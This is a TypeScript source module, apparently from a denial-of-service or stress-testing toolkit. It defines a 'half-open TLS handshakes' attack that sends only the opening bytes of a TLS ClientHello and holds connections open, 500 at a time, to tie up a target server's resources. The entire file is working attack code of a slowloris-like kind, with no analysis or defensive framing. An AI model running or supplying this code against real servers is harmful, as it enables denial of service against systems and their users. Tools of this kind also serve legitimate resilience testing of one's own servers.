// TLS handshakes that begin and go no further.
import type { Attack } from './attack.ts';
import { closed, connect, repeat, send } from './connection.ts';

/** The first bytes of a ClientHello of 512 bytes, and none of the rest (RFC 8446, section 5.1). */
const BEGINNING = Buffer.from('1603010200010001fc0303', 'hex');

export const halfTls: Attack = {
  title: 'half-open TLS handshakes',
  tls: true,
  async run(target) {
    const opened = await repeat(target, 500, async () => {
      const socket = await connect(target);
      if (socket === undefined) return;
      await send(socket, BEGINNING);
      await closed(socket);
    });
    return `${opened} connections, 500 at a time`;
  },
};
